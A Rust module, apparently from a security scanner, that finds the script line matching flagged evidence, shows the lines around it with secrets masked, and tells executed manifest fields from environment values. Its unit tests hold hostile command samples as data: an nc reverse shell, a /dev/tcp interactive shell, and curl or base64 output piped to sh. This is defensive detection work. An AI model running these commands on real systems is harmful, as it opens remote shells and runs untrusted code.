//! The lines of a script around what was found in it.

use crate::text::SafeText;

/// Lines shown before and after the one that is meant.
const AROUND: usize = 2;
/// The longest line that is shown, in characters.
const MAX_LINE: usize = 240;
/// The shortest word that says something about where evidence stands.
const MIN_WORD: usize = 2;

/// A part of a script, safe to show.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Script {
    /// Whether there is more before it.
    pub(super) cut_before: bool,
    /// Its lines.
    pub(super) lines: Vec<SafeText>,
    /// The index of the line that is meant.
    pub(super) marked: usize,
    /// Whether there is more after it.
    pub(super) cut_after: bool,
}

impl Script {
    /// The lines around the one of `text` that holds most of the words of `evidence`.
    ///
    /// Nothing where no line holds half of them: evidence may have been decoded or put together. Nothing either where
    /// the lines would say no more than the evidence does.
    pub(super) fn around(text: &str, evidence: &str) -> Option<Self> {
        // Without a remark in front such as `(decoded) `, and as words, since redirections are set apart differently.
        let remark = evidence.strip_prefix('(').and_then(|rest| rest.split_once(") "));
        let words: Vec<&str> = remark
            .map_or(evidence, |(_, rest)| rest)
            .split(|character: char| character.is_whitespace() || "…'\"<>|&".contains(character))
            .filter(|word| word.len() >= MIN_WORD)
            .collect();
        let lines = SafeText::lines(text, MAX_LINE);
        let held = |line: &SafeText| words.iter().filter(|word| line.as_str().contains(**word)).count();
        // Of equal ones the first.
        let (marked, most) = lines.iter().map(held).enumerate().rev().max_by_key(|(_, count)| *count)?;
        let says_more = lines.len() > 1 || lines.first().is_some_and(|line| line.as_str() != evidence);
        if most == 0 || most * 2 < words.len() || !says_more {
            return None;
        }
        let first = marked.saturating_sub(AROUND);
        let end = (marked + AROUND + 1).min(lines.len());
        Some(Self {
            cut_before: first > 0,
            cut_after: end < lines.len(),
            marked: marked - first,
            lines: lines.into_iter().skip(first).take(end - first).collect(),
        })
    }
}

/// Whether a field is one that is executed, as opposed to a value of the environment.
pub(super) fn is_executed(path: &str) -> bool {
    path.rsplit('.').next().is_some_and(|last| last.starts_with("command[") || last.starts_with("args["))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str, evidence: &str) -> Option<(Vec<String>, usize, bool, bool)> {
        let script = Script::around(text, evidence)?;
        let lines = script.lines.iter().map(ToString::to_string).collect();
        Some((lines, script.marked, script.cut_before, script.cut_after))
    }

    #[test]
    fn the_line_with_most_of_the_evidence_is_marked() {
        let lines = |lines: &[&str]| lines.iter().map(ToString::to_string).collect::<Vec<_>>();
        assert_eq!(
            shown("set -e\na\nb\nnc -e /bin/sh \\\n  192.0.2.1 4444\nc\nd", "nc -e /bin/sh 192.0.2.1 4444"),
            Some((lines(&["a", "b", "nc -e /bin/sh \\", "  192.0.2.1 4444", "c"]), 2, true, true))
        );
        assert_eq!(shown("curl x", "curl x"), None);
        assert_eq!(shown("if a; then curl x; fi", "curl x").map(|script| script.1), Some(0));
        assert_eq!(shown("echo Y3VybCB4 | base64 -d | sh", "decoded words that stand nowhere"), None);
        assert_eq!(
            shown("a\nsh -i >& /dev/tcp/h/1", "(written to a file) sh -i >&/dev/tcp/h/1")
                .map(|script| script.1),
            Some(1)
        );
        assert_eq!(shown("", "x"), None);
    }

    #[test]
    fn secrets_around_are_masked() {
        let script = shown("export DB_PASSWORD=hunter2\ncurl x | sh\n", "curl x").unwrap();
        assert_eq!(script.0, ["export DB_PASSWORD=***", "curl x | sh"]);
    }

    #[test]
    fn environment_is_not_executed() {
        assert!(is_executed("spec.template.spec.containers[0].args[2]"));
        assert!(is_executed("spec.template.spec.containers[0].lifecycle.postStart.exec.command[0]"));
        assert!(!is_executed("spec.template.spec.containers[0].env[0].value"));
        assert!(!is_executed("spec.template.spec.volumes[0].hostPath.path"));
    }
}
